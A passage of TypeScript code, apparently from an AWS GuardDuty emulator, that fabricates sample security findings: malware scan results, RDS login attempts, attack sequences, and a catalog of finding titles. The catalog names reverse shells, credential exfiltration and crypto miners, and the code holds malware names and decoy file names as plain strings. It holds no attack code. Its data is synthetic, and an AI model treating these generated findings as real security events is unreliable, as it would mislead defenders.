    info.type.includes("Failed") || info.type.includes("BruteForce")
      ? rng.int(20, 3000)
      : rng.int(0, 3);
  const succeeded = info.type.includes("Successful") ? rng.int(1, 5) : 0;
  parts.action = {
    actionType: "RDS_LOGIN_ATTEMPT",
    rdsLoginAttemptAction: {
      remoteIpDetails: remoteIpDetails(caller),
      // No jsonName in the model: the wire key keeps the member's PascalCase (guardduty-wire.md §5).
      LoginAttributes: [
        { user, application, failedLoginAttempts: failed, successfulLoginAttempts: succeeded },
      ],
    },
  };
  parts.peer = caller.ip;
  return parts;
}

// --- Malware --------------------------------------------------------------------------------------

const MALWARE_NAMES = [
  "EICAR-Test-File (not a virus)",
  "Trojan.Linux.Mirai.A",
  "Backdoor.Linux.Tsunami",
  "Coinminer.Linux.XMRig",
];

function scanThreats(scene: Scene, volumeArn: string): Json {
  const { rng } = scene;
  const name = rng.pick(MALWARE_NAMES);
  const fileName = rng.pick(["kworkerds", "x.sh", "eicar.com", "libudev.so"]);
  const filePath = `/tmp/${fileName}`;
  return {
    scannedItemCount: {
      totalGb: rng.int(8, 200),
      files: rng.int(20000, 900000),
      volumes: rng.int(1, 3),
    },
    threatsDetectedItemCount: { files: rng.int(1, 4) },
    highestSeverityThreatDetails: {
      severity: rng.pick(["HIGH", "MEDIUM"]),
      threatName: name,
      count: 1,
    },
    threatDetectedByName: {
      itemCount: 1,
      uniqueThreatNameCount: 1,
      shortened: false,
      threatNames: [
        {
          name,
          severity: "HIGH",
          itemCount: 1,
          filePaths: [{ filePath, volumeArn, hash: hexId(rng, 64), fileName }],
        },
      ],
    },
  };
}

function ebsMalwareParts(scene: Scene, base: Parts): Parts {
  const { rng, ctx, createdMs } = scene;
  const volumeArn = `arn:aws:ec2:${ctx.region}:${ctx.accountId}:volume/${awsId(rng, "vol")}`;
  base.resource.ebsVolumeDetails = {
    scannedVolumeDetails: [
      {
        volumeArn,
        volumeType: rng.pick(["gp3", "gp2", "io2"]),
        deviceName: "/dev/xvda",
        volumeSizeInGB: rng.pick([8, 20, 50, 100]),
        encryptionType: rng.pick(["UNENCRYPTED", "DEFAULT", "CMK"]),
        snapshotArn: `arn:aws:ec2:${ctx.region}:${ctx.accountId}:snapshot/${awsId(rng, "snap")}`,
      },
    ],
    skippedVolumeDetails: [],
  };
  const started = createdMs - rng.int(5, 60) * MINUTE;
  base.service.ebsVolumeScanDetails = {
    scanId: hexId(rng, 32),
    scanStartedAt: epochSeconds(started),
    scanCompletedAt: epochSeconds(started + rng.int(2, 30) * MINUTE),
    triggerFindingId: hexId(rng, 32),
    sources: ["Bitdefender", "Amazon"],
    scanDetections: scanThreats(scene, volumeArn),
    scanType: rng.pick(["GUARDDUTY_INITIATED", "ON_DEMAND"]),
  };
  base.resourceRole = "TARGET";
  return base;
}

function malwareScanDetails(
  scene: Scene,
  resourceArn: string,
  itemPath: string,
  trigger: "GUARDDUTY" | "BACKUP",
): Json {
  const { rng } = scene;
  const hash = hexId(rng, 64);
  return {
    threats: [
      {
        name: rng.pick(MALWARE_NAMES),
        source: rng.pick(["AMAZON", "BITDEFENDER"]),
        count: 1,
        hash,
        itemPaths: [{ nestedItemPath: itemPath, hash }],
        itemDetails: [
          { resourceArn, itemPath, hash, additionalInfo: { versionId: hexId(rng, 32) } },
        ],
      },
    ],
    scanId: hexId(rng, 32),
    scanType: trigger === "BACKUP" ? "BACKUP_INITIATED" : "GUARDDUTY_INITIATED",
    scanCategory: "FULL_SCAN",
    scanConfiguration: { triggerType: trigger },
    uniqueThreatCount: 1,
  };
}

function s3ObjectMalwareParts(scene: Scene): Parts {
  const { rng, inventory } = scene;
  const bucket = rng.pick(inventory.buckets);
  const key = `uploads/${hexId(rng, 8)}/${rng.pick(["invoice.pdf.exe", "setup.zip", "report.docm"])}`;
  const versionId = hexId(rng, 32);
  // A copy: the bucket's shared details are frozen, and the object list is this finding's own.
  const detail: Json = { ...s3BucketDetail(bucket, bucketExposure("", rng)) };
  detail.s3ObjectDetails = [
    {
      objectArn: `arn:aws:s3:::${bucket.name}/${key}`,
      key,
      eTag: hexId(rng, 32),
      hash: hexId(rng, 64),
      versionId,
    },
  ];
  const parts = newParts(
    { resourceType: "S3Object", s3BucketDetails: [detail] },
    `S3 object ${key}`,
  );
  parts.service.malwareScanDetails = malwareScanDetails(
    scene,
    `arn:aws:s3:::${bucket.name}/${key}`,
    key,
    "GUARDDUTY",
  );
  return parts;
}

function backupMalwareParts(scene: Scene): Parts {
  const { rng, info, ctx } = scene;
  const prefix = `arn:aws:ec2:${ctx.region}:${ctx.accountId}`;
  let parts: Parts;
  let arn: string;
  if (info.type.endsWith("!Snapshot")) {
    arn = `${prefix}:snapshot/${awsId(rng, "snap")}`;
    parts = newParts(
      { resourceType: "EBSSnapshot", ebsSnapshotDetails: { snapshotArn: arn } },
      `EBS snapshot ${arn}`,
    );
  } else if (info.type.endsWith("!AMI")) {
    arn = `${prefix}::image/${awsId(rng, "ami")}`;
    parts = newParts(
      { resourceType: "EC2Image", ec2ImageDetails: { imageArn: arn } },
      `AMI ${arn}`,
    );
  } else {
    arn = `arn:aws:backup:${ctx.region}:${ctx.accountId}:recovery-point:${uuid(rng)}`;
    parts = newParts(
      {
        resourceType: "RecoveryPoint",
        recoveryPointDetails: { recoveryPointArn: arn, backupVaultName: "Default" },
      },
      `recovery point ${arn}`,
    );
  }
  parts.service.malwareScanDetails = malwareScanDetails(
    scene,
    arn,
    `/var/tmp/${hexId(rng, 6)}.bin`,
    "BACKUP",
  );
  return parts;
}

function malwareParts(scene: Scene): Parts {
  const { info, rng, inventory, ctx, createdMs } = scene;
  if (info.type.includes("!")) return backupMalwareParts(scene);
  if (info.resourceType === "S3Object") return s3ObjectMalwareParts(scene);
  if (info.resourceType === "Container") {
    const base = newParts(
      { resourceType: "Container", containerDetails: container(rng, { privileged: false }) },
      "container",
    );
    return ebsMalwareParts(scene, base);
  }
  if (info.resourceType === "ECSCluster") {
    const cluster = rng.pick(inventory.ecsClusters);
    const base = newParts(
      {
        resourceType: "ECSCluster",
        ecsClusterDetails: ecsClusterDetails(
          rng,
          cluster,
          createdMs,
          container(rng, { privileged: false }),
        ),
      },
      `ECS cluster ${cluster.name}`,
    );
    return ebsMalwareParts(scene, base);
  }
  if (info.resourceType === "EKSCluster") {
    const cluster = rng.pick(inventory.eksClusters);
    const base = newParts(
      {
        resourceType: "EKSCluster",
        eksClusterDetails: eksClusterDetails(cluster),
        kubernetesDetails: {
          kubernetesWorkloadDetails: kubernetesWorkloadDetails(
            scene,
            "default",
            `${rng.pick(APPS)}-${hexId(rng, 5)}`,
          ),
        },
      },
      `EKS cluster ${cluster.name}`,
    );
    return ebsMalwareParts(scene, base);
  }
  const spec = rng.pick(inventory.instances);
  const base = newParts(
    { resourceType: "Instance", instanceDetails: instanceDetails(spec, ctx.region, ctx.accountId) },
    `EC2 instance ${spec.instanceId}`,
  );
  return ebsMalwareParts(scene, base);
}

// --- Attack sequences -----------------------------------------------------------------------------

const SEQUENCE_SIGNALS: Record<string, readonly string[]> = {
  EC2: [
    "Backdoor:EC2/C&CActivity.B",
    "CryptoCurrency:EC2/BitcoinTool.B",
    "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
  ],
  ECS: [
    "Execution:Runtime/NewBinaryExecuted",
    "Impact:Runtime/CryptoMinerExecuted",
    "CryptoCurrency:Runtime/BitcoinTool.B",
  ],
  EKS: [
    "Execution:Kubernetes/ExecInKubeSystemPod",
    "PrivilegeEscalation:Kubernetes/PrivilegedContainer",
    "Impact:Runtime/CryptoMinerExecuted",
  ],
  IAM: [
    "Discovery:IAMUser/AnomalousBehavior",
    "Persistence:IAMUser/AnomalousBehavior",
    "DefenseEvasion:IAMUser/AnomalousBehavior",
  ],
  S3: [
    "Discovery:S3/AnomalousBehavior",
    "Exfiltration:S3/AnomalousBehavior",
    "Impact:S3/AnomalousBehavior.Delete",
  ],
};

/** The sequence's resource in ResourceV2 form (`resources[].data`). */
function sequenceResource(scene: Scene, parts: Parts): Json {
  const { ctx, rng } = scene;
  const base = { accountId: ctx.accountId, region: ctx.region, cloudPartition: "aws" };
  const res = parts.resource;
  if (res.instanceDetails) {
    const details = res.instanceDetails as Json;
    const profile = details.iamInstanceProfile as Json;
    return {
      uid: details.instanceId,
      resourceType: "EC2_INSTANCE",
      name: details.instanceId,
      service: "EC2",
      ...base,
      tags: copyTags(details.tags as Tag[]),
      data: {
        ec2Instance: {
          availabilityZone: details.availabilityZone,
          imageDescription: details.imageDescription,
          instanceState: details.instanceState,
          // Ec2Instance.IamInstanceProfile has no jsonName: PascalCase on the wire (guardduty-wire.md §5).
          IamInstanceProfile: { arn: profile.arn, id: profile.id },
          instanceType: details.instanceType,
          ec2NetworkInterfaceUids: [awsId(rng, "eni")],
        },
      },
    };
  }
  if (res.s3BucketDetails) {
    const bucket = (res.s3BucketDetails as Json[])[0] ?? {};
    return {
      uid: bucket.arn,
      resourceType: "S3_BUCKET",
      name: bucket.name,
      service: "S3",
      ...base,
      data: {
        s3Bucket: {
          ownerId: (bucket.owner as Json | undefined)?.id,
          createdAt: bucket.createdAt,
          effectivePermission: "NOT_PUBLIC",
          publicReadAccess: "BLOCKED",
          publicWriteAccess: "BLOCKED",
        },
      },
    };
  }
  if (res.eksClusterDetails) {
    const cluster = res.eksClusterDetails as Json;
    return {
      uid: cluster.arn,
      resourceType: "EKS_CLUSTER",
      name: cluster.name,
      service: "EKS",
      ...base,
      data: {
        eksCluster: {
          arn: cluster.arn,
          createdAt: cluster.createdAt,
          status: "ACTIVE",
          vpcId: cluster.vpcId,
        },
      },
    };
  }
  if (res.ecsClusterDetails) {
    const cluster = res.ecsClusterDetails as Json;
    return {
      uid: cluster.arn,
      resourceType: "ECS_CLUSTER",
      name: cluster.name,
      service: "ECS",
      ...base,
      data: { ecsCluster: { status: "ACTIVE", ec2InstanceUids: [] } },
    };
  }
  const key = res.accessKeyDetails as Json;
  return {
    uid: key.accessKeyId,
    resourceType: "ACCESS_KEY",
    name: key.accessKeyId,
    service: "IAM",
    ...base,
    data: {
      accessKey: { principalId: key.principalId, userName: key.userName, userType: key.userType },
    },
  };
}

function sequenceBaseParts(scene: Scene): Parts {
  const affected = scene.info.type.slice(
    scene.info.type.indexOf(":") + 1,
    scene.info.type.indexOf("/"),
  );
  if (affected === "EC2")
    return ec2Parts({ ...scene, info: { ...scene.info, type: "Backdoor:EC2/C&CActivity.B" } });
  if (affected === "S3")
    return s3Parts({
      ...scene,
      info: { ...scene.info, type: "Exfiltration:S3/AnomalousBehavior" },
    });
  if (affected === "EKS")
    return kubernetesParts({
      ...scene,
      info: { ...scene.info, type: "Execution:Kubernetes/ExecInKubeSystemPod" },
    });
  if (affected === "ECS") {
    const { rng, inventory, createdMs } = scene;
    const cluster = rng.pick(inventory.ecsClusters);
    return newParts(
      {
        resourceType: "ECSCluster",
        ecsClusterDetails: ecsClusterDetails(
          rng,
          cluster,
          createdMs,
          container(rng, { privileged: false }),
        ),
      },
      `ECS cluster ${cluster.name}`,
    );
  }
  return iamParts({
    ...scene,
    info: { ...scene.info, type: "Persistence:IAMUser/AnomalousBehavior" },
  });
}

function attackSequenceParts(scene: Scene): Parts {
  const { rng, info, ctx, createdMs } = scene;
  const parts = sequenceBaseParts(scene);
  const affected = info.type.slice(info.type.indexOf(":") + 1, info.type.indexOf("/"));
  const resource = sequenceResource(scene, parts);
  const peer = remote(scene);
  const endpointId = `endpoint-${hexId(rng, 8)}`;
  const actorId = `actor-${hexId(rng, 8)}`;
  const user = rng.pick(scene.inventory.users);
  const signalTypes = SEQUENCE_SIGNALS[affected] ?? SEQUENCE_SIGNALS.IAM ?? [];
  const signals = signalTypes.map((signalType, index) => {
    const firstSeen = createdMs - (signalTypes.length - index) * rng.int(1, 6) * HOUR;
    return {
      uid: `arn:aws:guardduty:${ctx.region}:${ctx.accountId}:detector/${ctx.detectorId}/finding/${hexId(rng, 32)}`,
      type: "FINDING",
      name: signalType,
      description: `GuardDuty finding ${signalType} contributed to this sequence.`,
      createdAt: epochSeconds(firstSeen),
      updatedAt: epochSeconds(firstSeen + 10 * MINUTE),
      firstSeenAt: epochSeconds(firstSeen),
      lastSeenAt: epochSeconds(firstSeen + 10 * MINUTE),
      count: rng.int(1, 12),
      severity: findingTypeInfo(signalType)?.defaultBand === "High" ? 8 : 5,
      resourceUids: [String(resource.uid)],
      actorIds: [actorId],
      endpointIds: [endpointId],
      signalIndicators: [{ key: "MALICIOUS_IP", values: [peer.ip], title: "Malicious IP" }],
    };
  });
  parts.service.detection = {
    sequence: {
      uid: hexId(rng, 32),
      description: `A sequence of ${signals.length} related signals indicates ${affected} resources were compromised.`,
      actors: [
        {
          id: actorId,
          user: {
            name: user.userName,
            uid: user.principalId,
            type: user.userType,
            credentialUid: user.accessKeyId,
            account: { uid: ctx.accountId, account: "production" },
          },
          session: {
            uid: hexId(rng, 16),
            mfaStatus: rng.pick(["ENABLED", "DISABLED"]),
            createdTime: epochSeconds(createdMs - rng.int(1, 48) * HOUR),
            issuer: `arn:aws:iam::${ctx.accountId}:role/${rng.pick(ROLE_NAMES)}`,
          },
        },
      ],
      resources: [resource],
      endpoints: [
        {
          id: endpointId,
          ip: peer.ip,
          location: {
            city: peer.geo.city,
            country: peer.geo.countryName,
            lat: peer.geo.lat,
            lon: peer.geo.lon,
          },
          autonomousSystem: { name: peer.geo.asnOrg, number: Number(peer.geo.asn) },
          connection: { direction: "INBOUND" },
        },
      ],
      signals,
      sequenceIndicators: [
        {
          key: "ATTACK_TACTIC",
          values: ["Discovery", "Persistence", "Impact"],
          title: "Attack tactics",
        },
        {
          key: "HIGH_RISK_API",
          values: ["CreateAccessKey", "DeleteTrail"],
          title: "High-risk APIs",
        },
      ],
    },
  };
  // The sequence replaces the single-signal view: no action and no signal-level extras.
  delete parts.action;
  parts.resourceRole = "TARGET";
  parts.additional = {};
  return parts;
}

const BUILDERS: Record<FindingFamily, (scene: Scene) => Parts> = {
  EC2: ec2Parts,
  IAM: iamParts,
  S3: s3Parts,
  Kubernetes: kubernetesParts,
  Runtime: runtimeParts,
  RDS: rdsParts,
  Lambda: lambdaParts,
  Malware: malwareParts,
  AttackSequence: attackSequenceParts,
};

/** The activity counters GuardDuty reports inside `additionalInfo.value`, by action type. */
function addActivityInfo(scene: Scene, parts: Parts): void {
  const { rng } = scene;
  const action = parts.action;
  if (!action) return;
  const additional = parts.additional;
  if (action.actionType === "NETWORK_CONNECTION") {
    additional.inBytes = String(rng.int(40, 2_000_000));
    additional.outBytes = String(rng.int(40, 20_000_000));
  } else if (action.actionType === "PORT_PROBE") {
    const probe = action.portProbeAction as { portProbeDetails: Json[] };
    additional.portsScannedSample = probe.portProbeDetails.map(
      (detail) => (detail.localPortDetails as Json).port,
    );
  } else if (action.actionType === "AWS_API_CALL") {
    const call = action.awsApiCallAction as Json;
    additional.recentApiCalls = [{ api: call.api, count: rng.int(1, 40) }];
  }
}

// ---------------------------------------------------------------------------------------------
// Titles and descriptions
// ---------------------------------------------------------------------------------------------

const TITLE_BY_FAMILY_NAME: Record<string, string> = {
  "C&CActivity": "{subject} is communicating with a known command and control server {peer}.",
  BitcoinTool: "{subject} is communicating with a Bitcoin mining pool {peer}.",
  DenialOfService:
    "{subject} is behaving in a manner that may indicate it is being used to perform a Denial of Service attack against {peer}.",
  Spambot: "{subject} is behaving in a manner indicating it is being used to send spam to {peer}.",
  NetworkPortUnusual: "{subject} is communicating with {peer} on an unusual port.",
  TrafficVolumeUnusual: "{subject} is generating unusually large network traffic to {peer}.",
  SSHBruteForce: "{subject} is involved in SSH brute force attacks with {peer}.",
  RDPBruteForce: "{subject} is involved in RDP brute force attacks with {peer}.",
  WinRMBruteForce: "{subject} is involved in WinRM brute force attacks with {peer}.",
  PortProbeUnprotectedPort: "Unprotected port on {subject} is being probed by {peer}.",
  PortProbeEMRUnprotectedPort:
    "Unprotected EMR-related port on {subject} is being probed by {peer}.",
  Portscan: "{subject} is performing outbound port scans against {peer}.",
  PortSweep: "{subject} is probing a port on a large number of IP addresses.",
  TorClient: "{subject} is communicating with a Tor entry node {peer}.",
  TorRelay: "{subject} is acting as a Tor relay with {peer}.",
  TorIPCaller: "API calls were invoked from the Tor exit node {peer} for {subject}.",
  MaliciousIPCaller:
    "{subject} was involved in activity with the known malicious IP address {peer}.",
  AnomalousBehavior: "Anomalous activity was observed for {subject}.",
  RootCredentialUsage: "API calls were made using the root credentials of the account.",
  ShortTermRootCredentialUsage: "Short-term root credentials were used to invoke API calls.",
  CloudTrailLoggingDisabled: "AWS CloudTrail logging was disabled by {subject}.",
  PasswordPolicyChange: "The account password policy was weakened by {subject}.",
  ConsoleLoginSuccess: "Unusual console login was seen for {subject} from {peer}.",
  InstanceCredentialExfiltration:
    "Credentials created for an EC2 instance were used by {subject} from {peer}.",
  ResourceCredentialExfiltration:
    "Credentials of {subject} were used from an external address {peer}.",
  KaliLinux: "API calls were invoked from a Kali Linux computer for {subject}.",
  ParrotLinux: "API calls were invoked from a Parrot Security Linux computer for {subject}.",
  PentooLinux: "API calls were invoked from a Pentoo Linux computer for {subject}.",
  SuccessfulAnonymousAccess: "An anonymous user successfully called an API on {subject}.",
  PrivilegedContainer: "A privileged container was launched on {subject}.",
  ContainerWithSensitiveMount:
    "A container with a sensitive host path mount was launched on {subject}.",
  MaliciousFile: "Malware was detected on {subject}.",
  SuspiciousFile: "A suspicious file was detected on {subject}.",
  CryptoMinerExecuted: "A cryptocurrency miner was executed on {subject}.",
  ReverseShell: "A process on {subject} opened a reverse shell.",
  CompromisedCredentials:
    "Potential credential compromise of {subject} indicated by a sequence of actions.",
  CompromisedData: "Potential data compromise of {subject} indicated by a sequence of actions.",
  CompromisedCluster: "Potential compromise of {subject} indicated by a sequence of actions.",
  CompromisedInstanceGroup: "Potential compromise of a group of instances including {subject}.",
};

/** `SSHBruteForce` → `SSH brute force`: the fallback wording for types without a template. */
function humanize(name: string): string {
  return name
    .replace(/([a-z0-9])([A-Z])/g, "$1 $2")
    .replace(/([A-Z]+)([A-Z][a-z])/g, "$1 $2")
    .toLowerCase()
    .replace(/\b(ec2|dns|ip|s3|iam|rds|tor|rdp|ssh|doh|dot|dga|c&c)\b/g, (word) =>
      word.toUpperCase(),
    );
}

const titleTemplates = new Map<string, string>();

function titleTemplate(type: string): string {
  let template = titleTemplates.get(type);
  if (template === undefined) {
    const familyName = threatFamilyName(type);
    template =
      TITLE_BY_FAMILY_NAME[familyName] ??
      (DNS_PATTERN.test(type)
        ? `{subject} is querying a domain name {peer} associated with ${humanize(familyName)}.`
        : `${humanize(familyName).replace(/^./, (c) => c.toUpperCase())} was detected on {subject}.`);
    // Unknown types come from callers (CreateSampleFindings); only catalog types are cached.
    if (findingTypeInfo(type)) titleTemplates.set(type, template);
  }
  return template;
}

function titleFor(info: FindingTypeInfo, parts: Parts): string {
  return titleTemplate(info.type)
    .split("{subject}")
    .join(parts.subject)
    .split("{peer}")
    .join(parts.peer ?? "an unknown party");
}

const SOURCE_SENTENCE: Record<FindingTypeInfo["dataSource"], string> = {
  FLOW_LOGS: "GuardDuty observed this in VPC flow logs.",
  DNS_LOGS: "GuardDuty observed this in DNS query logs.",
  CLOUD_TRAIL: "GuardDuty observed this in CloudTrail management events.",
  S3_DATA_EVENTS: "GuardDuty observed this in CloudTrail S3 data events.",
  EKS_AUDIT_LOGS: "GuardDuty observed this in the EKS audit logs.",
  RUNTIME_MONITORING: "GuardDuty's runtime agent observed this on the host.",
  RDS_LOGIN_EVENTS: "GuardDuty observed this in RDS login activity.",
  LAMBDA_NETWORK_LOGS: "GuardDuty observed this in Lambda network activity.",
  EBS_MALWARE_PROTECTION: "A GuardDuty malware scan of the attached EBS volumes found it.",
  BACKUP_MALWARE_PROTECTION: "A GuardDuty malware scan of the backup found it.",
  S3_MALWARE_PROTECTION: "A GuardDuty malware scan of the uploaded object found it.",
  CORRELATED_SIGNALS:
    "GuardDuty Extended Threat Detection correlated several signals into this sequence.",
};

/** `service.featureName` values (not enumerated by the model; these follow the console's feature names). */
const FEATURE_NAME: Record<FindingTypeInfo["dataSource"], string> = {
  FLOW_LOGS: "FlowLogs",
  DNS_LOGS: "DnsLogs",
  CLOUD_TRAIL: "CloudTrail",
  S3_DATA_EVENTS: "S3DataEvents",
  EKS_AUDIT_LOGS: "EksAuditLogs",
  RUNTIME_MONITORING: "RuntimeMonitoring",
  RDS_LOGIN_EVENTS: "RdsLoginEvents",
  LAMBDA_NETWORK_LOGS: "LambdaNetworkLogs",
  EBS_MALWARE_PROTECTION: "EbsMalwareProtection",
  BACKUP_MALWARE_PROTECTION: "MalwareProtectionForBackup",
  S3_MALWARE_PROTECTION: "MalwareProtectionForS3",
  CORRELATED_SIGNALS: "ExtendedThreatDetection",
};

// ---------------------------------------------------------------------------------------------
// The finding
// ---------------------------------------------------------------------------------------------

export function makeFinding(rng: Rng, ctx: FindingContext): WireFinding {
  const info = resolveTypeInfo(ctx.type);
  const createdMs = Date.parse(ctx.createdAt);
  const updatedMs = Math.max(Date.parse(ctx.updatedAt), createdMs);
  const scene: Scene = {
    rng,
    info,
    ctx,
    inventory: inventoryFor(ctx.accountId, ctx.region),
    createdMs,
    updatedMs,
  };
  const parts = BUILDERS[info.family](scene);
  if (info.family !== "AttackSequence") {
    threatEvidence(scene, parts);
    addActivityInfo(scene, parts);
  }
  const sample = ctx.sample === true;
  const title = titleFor(info, parts);
  return {
    accountId: ctx.accountId,
    arn: flat(
      "arn:aws:guardduty:",
      ctx.region,
      ":",
      ctx.accountId,
      ":detector/",
      ctx.detectorId,
      "/finding/",
      ctx.id,
    ),
    confidence: rng.int(50, 100) / 10,
    createdAt: ctx.createdAt,
    description: flat(title, " ", SOURCE_SENTENCE[info.dataSource]),
    id: ctx.id,
    partition: "aws",
    region: ctx.region,
    resource: parts.resource,
    schemaVersion: "2.0",
    service: buildService(scene, parts, sample),
    severity: severityFor(rng, info),
    title: sample ? flat("[SAMPLE] ", title) : title,
    type: ctx.type,
    updatedAt: ctx.updatedAt,
  };
}

function buildService(scene: Scene, parts: Parts, sample: boolean): WireService {
  const { rng, ctx, info, createdMs, updatedMs } = scene;
  const firstSeenMs = createdMs - rng.int(0, 45 * 60) * 1000;
  const lastSeenMs = Math.max(firstSeenMs, updatedMs - rng.int(0, 300) * 1000);
  const count = updatedMs === createdMs ? 1 : rng.chance(0.5) ? rng.int(2, 10) : rng.int(11, 400);
  if (sample) parts.additional.sample = true;
  // Assembled member by member rather than with object spreads: spreading objects of varying
  // shapes cost several microseconds per finding, a large share of building a big world.
  const service = {} as WireService;
  if (parts.action) service.action = parts.action;
  for (const key of Object.keys(parts.service)) service[key] = parts.service[key];
  service.archived = false;
  service.count = count;
  service.detectorId = ctx.detectorId;
  service.eventFirstSeen = isoAt(firstSeenMs);
  service.eventLastSeen = isoAt(lastSeenMs);
  service.resourceRole = parts.resourceRole;
  service.serviceName = "guardduty";
  service.additionalInfo = { value: JSON.stringify(parts.additional), type: "default" };
  if (rng.chance(0.7)) service.featureName = FEATURE_NAME[info.dataSource];
  return service;
}
